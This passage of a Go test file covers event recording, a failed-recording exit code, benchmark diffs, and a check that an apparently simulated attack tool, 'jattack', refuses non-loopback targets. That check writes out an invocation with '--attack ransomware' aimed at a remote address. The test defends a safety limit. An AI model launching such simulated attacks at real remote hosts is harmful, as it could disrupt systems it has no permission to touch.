			if _, err := dec.Next(); err != nil {
				break
			}
		}
		if n != 1 {
			t.Errorf("%s holds %d decodable events, want 1:\n%s", path, n, out)
		}
		if entries, _ := os.ReadDir(dir); len(entries) != 1 {
			t.Errorf("a .jsonl store left %d entries beside it, want only x.jsonl (no history/): %v", len(entries), entries)
		}
	})

	t.Run("jsentinel-failed-recording-exits-1", func(t *testing.T) {
		// A recording that cannot be flushed at shutdown is a failed run:
		// the tap records into /dev/full, where every write fails.
		if _, err := os.Stat("/dev/full"); err != nil {
			t.Skip("no /dev/full")
		}
		path := filepath.Join(t.TempDir(), "tap.jsonl")
		if err := os.Symlink("/dev/full", path); err != nil {
			t.Fatal(err)
		}
		addr, stop := startDaemon(t, filepath.Join(bin, "jsentinel"),
			"--listen", "127.0.0.1:0", "--log", path, "--alerts=false")
		resp, err := http.Get("http://" + addr + "/api/status")
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		out := stop(1)
		if !strings.Contains(out, "jsentinel: event recording: ") {
			t.Errorf("recording failure not reported:\n%s", out)
		}
		if strings.Contains(out, "tapped stream recorded to") {
			t.Errorf("failed recording reported success:\n%s", out)
		}
	})

	t.Run("jbenchjson", func(t *testing.T) {
		// Every committed result of the end-to-end benchmark diffs
		// against itself: one row per workload and end-to-end metric, all
		// unchanged, exit 0.
		files, err := filepath.Glob("BENCH_*.json")
		if err != nil || len(files) == 0 {
			t.Fatalf("no committed BENCH_*.json (%v)", err)
		}
		for _, f := range files {
			cmd := exec.Command(filepath.Join(bin, "jbenchjson"), f, f)
			var stdout, stderr bytes.Buffer
			cmd.Stdout, cmd.Stderr = &stdout, &stderr
			if err := cmd.Run(); err != nil {
				t.Fatalf("jbenchjson %s %s: %v\n%s", f, f, err, stderr.String())
			}
			rows := strings.Split(strings.TrimSuffix(stdout.String(), "\n"), "\n")
			if len(rows) != 20 {
				t.Errorf("%s: %d rows, want 4 workloads x 5 metrics:\n%s", f, len(rows), stdout.String())
			}
			for _, r := range rows {
				if !strings.Contains(r, " unchanged ") {
					t.Errorf("%s: row not unchanged: %s", f, r)
				}
			}
		}
	})

	t.Run("jattack-refuses-nonloopback", func(t *testing.T) {
		out, err := runTool(t, filepath.Join(bin, "jattack"),
			"--target", "192.0.2.1:8888", "--attack", "ransomware")
		if err == nil {
			t.Fatal("non-loopback target accepted")
		}
		if !strings.Contains(out, "refusing non-loopback") {
			t.Errorf("output: %s", out)
		}
	})
}
